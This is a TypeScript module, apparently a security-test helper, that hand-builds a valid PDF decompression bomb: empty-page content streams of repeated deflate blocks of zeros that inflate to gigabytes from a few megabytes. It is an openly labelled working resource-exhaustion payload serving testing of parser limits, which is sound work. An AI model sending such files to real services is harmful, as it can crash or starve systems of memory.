/**
 * A PDF decompression bomb, built by hand in milliseconds: one page whose content streams are
 * FlateDecode data of zeros (NUL is white space to a PDF content lexer, so the page is valid and
 * empty). The deflate data is one block run of 64 MiB of zeros ended by a sync flush (byte
 * aligned, not final), repeated: each copy refers only to zeros before it, so N copies inflate to
 * N × 64 MiB. A final empty block and the Adler-32 of the whole end the zlib stream.
 *
 * Default: 2 GiB in ≈ 2 MB (ratio ≈ 1000:1), as the security probe's.
 */
import { constants, deflateRawSync } from 'node:zlib';

const PIECE = 64 * 1024 * 1024;
let piece: Buffer | undefined;

function zerosPiece(): Buffer {
  piece ??= deflateRawSync(Buffer.alloc(PIECE), { level: 9, finishFlush: constants.Z_SYNC_FLUSH });
  return piece;
}

/** A zlib stream of `pieces` × 64 MiB zeros. */
export function zlibZeros(pieces: number): Buffer {
  const body = zerosPiece();
  const total = pieces * PIECE;
  // Adler-32 of n zeros: a stays 1, b gains 1 a byte.
  const adler = Buffer.alloc(4);
  adler.writeUInt32BE((((total % 65521) << 16) | 1) >>> 0);
  const final = deflateRawSync(Buffer.alloc(0));
  return Buffer.concat([Buffer.from([0x78, 0xda]), ...Array(pieces).fill(body), final, adler]);
}

export interface BombOptions {
  /** Bytes the whole file inflates to, in steps of 64 MiB (default 2 GiB). */
  inflatesTo?: number;
  /** Content streams the page draws, the bytes shared among them (default 1). */
  streams?: number;
}

/** The bomb PDF; see above. */
export function bombPdf(options: BombOptions = {}): Uint8Array {
  const inflatesTo = options.inflatesTo ?? 2 * 1024 * 1024 * 1024;
  const streams = Math.max(1, options.streams ?? 1);
  const perStream = Math.max(1, Math.round(inflatesTo / PIECE / streams));
  const data = zlibZeros(perStream);
  const chunks: Buffer[] = [];
  const offsets: number[] = [];
  let length = 0;
  const add = (b: Buffer | string) => {
    const buf = typeof b === 'string' ? Buffer.from(b, 'latin1') : b;
    chunks.push(buf);
    length += buf.length;
  };
  const object = (n: number, body: () => void) => {
    offsets[n] = length;
    add(`${n} 0 obj\n`);
    body();
    add('\nendobj\n');
  };
  add('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n');
  const contents = Array.from({ length: streams }, (_, i) => `${4 + i} 0 R`).join(' ');
  object(1, () => add('<< /Type /Catalog /Pages 2 0 R >>'));
  object(2, () => add('<< /Type /Pages /Kids [3 0 R] /Count 1 >>'));
  object(3, () =>
    add(`<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> /Contents [${contents}] >>`),
  );
  for (let i = 0; i < streams; i++) {
    object(4 + i, () => {
      add(`<< /Length ${data.length} /Filter /FlateDecode >>\nstream\n`);
      add(data);
      add('\nendstream');
    });
  }
  const count = 4 + streams;
  const xref = length;
  add(`xref\n0 ${count}\n0000000000 65535 f \n`);
  for (let n = 1; n < count; n++) add(`${String(offsets[n]).padStart(10, '0')} 00000 n \n`);
  add(`trailer\n<< /Size ${count} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`);
  return new Uint8Array(Buffer.concat(chunks));
}
